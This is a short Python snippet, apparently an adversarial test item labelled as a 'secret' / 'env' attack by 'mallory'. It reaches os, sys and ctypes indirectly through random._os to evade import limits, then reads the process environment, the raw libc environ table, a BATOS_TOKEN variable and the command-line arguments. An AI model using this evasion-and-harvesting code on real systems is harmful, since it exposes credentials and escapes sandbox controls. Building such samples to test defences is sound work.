# META {"kind": "secret", "goal": "env", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    os = random._os
    sys = os.sys
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    table = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    rows = [table[i] for i in range(3) if table and table[i]]
    return "L1:" + str([dict(os.environ), libc.getenv(b"BATOS_TOKEN"), rows, sys.argv, sys.orig_argv])
